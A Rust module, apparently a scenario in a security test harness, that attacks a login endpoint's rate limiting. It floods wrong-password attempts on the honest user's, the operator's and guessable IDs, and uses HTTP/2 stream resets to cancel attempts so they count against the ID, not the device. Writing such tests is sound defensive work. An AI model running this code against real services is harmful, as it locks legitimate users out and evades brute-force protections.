//! A device without a password logs in on other people's IDs and takes each attempt back a moment later, in the hope
//! that the attempt is counted against the ID and not against the device. A second connection lets its attempts stand.

use std::io;
use std::time::Duration;

use serde_json::json;
use tokio::time::{Instant, sleep};

use super::{Assault, Told, base, ready};
use crate::ask::{self, LOGIN, urlencoded};
use crate::dial::Dialer;
use crate::frames::{Head, reset};
use crate::wire::{AGAIN, Wire};

/// How long an attempt stands before it is taken back.
const STANDS: [Duration; 5] = [
    Duration::from_micros(200),
    Duration::from_micros(500),
    Duration::from_millis(1),
    Duration::from_millis(2),
    Duration::from_millis(4),
];
/// Attempts at a time, on the connection that lets them stand.
const AT_A_TIME: u64 = 60;
/// A device may fail thirty times in a quarter of an hour; IDs that do not exist serve for that.
const TO_BE_SLOWED: usize = 40;

pub(super) async fn run(assault: Assault) -> io::Result<Told> {
    let dialer = assault.device()?;
    let slowed = slow_down(&dialer).await;
    let ids = ids(&assault)?;
    ready();
    let (taken_back, stood) = tokio::join!(
        take_back(&dialer, &ids, assault.until),
        let_stand(&dialer, assault.env.value("LOGIN_ID")?, assault.until)
    );
    let told = json!({ "slowed": slowed, "ids": ids.len(), "taken_back": taken_back, "stood": stood });
    Ok(told.as_object().cloned().unwrap_or_default())
}

/// The honest user's ID first; the others count up from the operator's, as anybody may guess.
fn ids(assault: &Assault) -> io::Result<Vec<String>> {
    let mut ids = vec![assault.env.value("LOGIN_ID")?.to_owned(), assault.env.value("OPERATOR_LOGIN_ID")?.to_owned()];
    ids.extend((2..8).map(|number| format!("kn-{number:06}")));
    ids.dedup();
    Ok(ids)
}

async fn slow_down(dialer: &Dialer) -> usize {
    let mut slowed = 0;
    for attempt in 0..TO_BE_SLOWED {
        let id = format!("zz-{:06}", attempt / 4);
        let fields = [("login_id", id.as_str()), ("password", "wrong-wrong-wrong"), ("return_to", "/")];
        let Ok(request) = ask::form(dialer, LOGIN, "", &fields) else { continue };
        slowed += usize::from(ask::ask(dialer, request).await.is_ok_and(|answer| answer.status == 429));
    }
    slowed
}

fn attempt(id: &str) -> String {
    urlencoded(&[("login_id", id), ("password", "wrong-wrong-wrong"), ("return_to", "/")])
}

fn head(dialer: &Dialer) -> Head {
    let form = [("content-type", "application/x-www-form-urlencoded"), ("sec-fetch-site", "same-origin")];
    Head::of(&[&base(dialer, ("POST", LOGIN))[..], &form[..]].concat())
}

async fn take_back(dialer: &Dialer, ids: &[String], until: Instant) -> u64 {
    let (head, mut taken_back) = (head(dialer), 0);
    let bodies: Vec<String> = ids.iter().map(|id| attempt(id)).collect();
    while Instant::now() < until {
        let Ok(mut wire) = Wire::open(dialer, &head).await else {
            sleep(AGAIN).await;
            continue;
        };
        for (body, stands) in bodies.iter().cycle().zip(STANDS.iter().cycle()) {
            if wire.is_over() || Instant::now() >= until {
                break;
            }
            let (mut asked, mut back) = (Vec::new(), Vec::new());
            let stream = wire.post(&mut asked, body.as_bytes());
            reset(&mut back, stream);
            if wire.send(&asked).await.is_err() {
                break;
            }
            sleep(*stands).await;
            if wire.send(&back).await.is_err() {
                break;
            }
            taken_back += 1;
        }
        sleep(AGAIN).await;
    }
    taken_back
}

async fn let_stand(dialer: &Dialer, id: &str, until: Instant) -> u64 {
    let (head, body, mut stood) = (head(dialer), attempt(id), 0);
    while Instant::now() < until {
        let Ok(mut wire) = Wire::open(dialer, &head).await else {
            sleep(AGAIN).await;
            continue;
        };
        while !wire.is_over() && Instant::now() < until {
            let mut octets = Vec::new();
            for _ in wire.running()..AT_A_TIME {
                wire.post(&mut octets, body.as_bytes());
            }
            if wire.send(&octets).await.is_err() {
                break;
            }
            wire.wait(Duration::from_millis(50)).await;
        }
        stood += wire.asked();
    }
    stood
}
